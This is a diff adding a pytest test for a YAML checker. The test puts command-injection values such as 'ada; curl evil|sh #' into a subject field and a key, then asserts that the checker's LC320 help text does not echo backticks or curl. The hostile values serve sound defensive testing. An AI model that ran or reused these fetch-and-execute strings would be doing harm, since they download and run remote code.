@@ -270,6 +270,20 @@ def test_testimony_without_an_answer_names_whom_to_ask() -> None:
     assert second.message == OF_LINUS
 
 
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("subject: ada-quill", "subject: 'ada; curl evil|sh #'"),
+        ("  interviewing:\n", "  'x; curl evil|sh #':\n"),
+        ("interviewing:\n", '"interviewing\\n":\n'),
+    ],
+)
+def test_no_command_is_made_of_what_is_no_login_and_no_key(old: str, new: str) -> None:
+    told = [one for one in findings(text=BODY.partition("expectations:")[0].replace(old, new)) if one.code == "LC320"]
+    assert told
+    assert not any("`" in one.help or "curl" in one.help for one in told)
+
+
 def test_confirmed_testimony_needs_no_word_and_edited_testimony_is_open_again() -> None:
     (other,) = findings(answered())
     assert other.message == OF_LINUS
